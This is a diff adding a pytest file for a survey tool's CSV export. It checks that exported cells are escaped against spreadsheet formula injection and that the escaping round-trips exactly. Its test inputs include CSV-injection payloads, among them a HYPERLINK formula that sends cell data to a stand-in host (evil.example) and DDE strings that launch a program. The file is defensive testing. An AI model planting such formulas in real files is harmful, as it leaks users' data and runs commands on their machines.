@@ -1,0 +1,124 @@
+"""The answers CSV (the workshop's export): safe to open in a spreadsheet, and read back by `dealcraft report`'s
+importer with every typed text and every number as it was."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from generator.answers.export import answers_csv, formula_safe, from_formula_safe
+from generator.answers.imports import load_inputs
+from generator.questionnaire.model import Questionnaire
+
+QUESTIONNAIRE = Questionnaire.model_validate(
+    {
+        "id": "sheet",
+        "title": "Sheet check",
+        "version": 2,
+        "bands": [{"id": "low", "min": 0, "label": "Low"}, {"id": "high", "min": 50, "label": "High"}],
+        "dimensions": [{"id": "d", "title": "D"}],
+        "questions": [
+            {"id": "agree", "type": "likert", "text": "I agree.", "dimension": "d"},
+            {
+                "id": "kind",
+                "type": "multi",
+                "text": "Which?",
+                "required": False,
+                "options": [{"id": "a", "label": "A"}, {"id": "b", "label": "B"}],
+            },
+            {"id": "change", "type": "number", "text": "The change in price", "required": False},
+            {"id": "notes", "type": "text", "text": "Notes", "required": False},
+        ],
+    }
+)
+
+# What a spreadsheet runs as a formula when a cell starts with it (OWASP: =, +, -, @, tab, carriage return).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted by the participant",
+    "''+two apostrophes",
+    "Ada Lovelace",
+    "'Tis fine",
+]
+
+
+def document(name: str, notes: str | None, change: float | None) -> dict[str, Any]:
+    answers: dict[str, Any] = {"agree": 4, "kind": ["b", "a"]}
+    if notes is not None:
+        answers["notes"] = notes
+    if change is not None:
+        answers["change"] = change
+    return {
+        "questionnaire": "sheet",
+        "version": 2,
+        "respondent": {"name": name, "group": "=Room 1", "email": "-ada@example.org"},
+        "submitted_at": "2026-12-02T10:42:00Z",
+        "answers": answers,
+    }
+
+
+def read_back(tmp_path: Path, documents: list[dict[str, Any]]) -> tuple[str, list[Any]]:
+    text = answers_csv(documents, [q.id for q in QUESTIONNAIRE.questions])
+    path = tmp_path / "sheet.csv"
+    path.write_text(text, encoding="utf-8")
+    loaded = list(load_inputs([path], {"sheet": QUESTIONNAIRE}, None))
+    assert all(item.document is not None for item in loaded), [p for item in loaded for p in item.problems]
+    return text, [item.document for item in loaded]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_cell_starts_a_formula_and_the_text_comes_back(text: str) -> None:
+    written = formula_safe(text)
+    assert not written.startswith(FORMULA_STARTS)
+    assert from_formula_safe(written) == text
+
+
+@given(st.text(max_size=30))
+def test_undoing_is_exact_for_any_text(text: str) -> None:
+    written = formula_safe(text)
+    assert not written.startswith(FORMULA_STARTS)
+    assert from_formula_safe(written) == text
+
+
+def test_the_export_reads_back_with_hostile_names_and_texts(tmp_path: Path) -> None:
+    documents = [
+        document(name, notes, change)
+        for name, notes, change in zip(
+            HOSTILE,
+            ["=1+1", "\tindented note", "\r\nstarts with a line break", "-", None, "plain", "@here", "+"],
+            [-3, -2.5, 0, 1000000, None, -0.25, 12, None],
+            strict=True,
+        )
+    ]
+    text, loaded = read_back(tmp_path, documents)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0][:6] == ["questionnaire", "version", "name", "email", "group", "submitted_at"]
+    change_column = rows[0].index("change")
+    for row in rows[1:]:
+        typed = [cell for i, cell in enumerate(row) if i != change_column]
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in typed), row
+    # numbers stay numbers in the sheet: -3 is written -3, not '-3
+    assert [row[change_column] for row in rows[1:]] == ["-3", "-2.5", "0", "1000000", "", "-0.25", "12", ""]
+    for doc, back in zip(documents, loaded, strict=True):
+        assert back.respondent.name == doc["respondent"]["name"]
+        assert back.respondent.group == "=Room 1" and back.respondent.email == "-ada@example.org"
+        assert dict(back.answers) == doc["answers"]
+        if "change" in doc["answers"]:
+            assert type(back.answers["change"]) is type(doc["answers"]["change"])
+
+
+def test_an_apostrophe_before_ordinary_text_is_the_participants_own(tmp_path: Path) -> None:
+    """Only the prefix the export adds is undone: "'Tis" and "Rock 'n' roll" read back unchanged."""
+    _, loaded = read_back(tmp_path, [document("'Tis Ada", "Rock 'n' roll", None)])
+    assert loaded[0].respondent.name == "'Tis Ada"
+    assert loaded[0].answers["notes"] == "Rock 'n' roll"
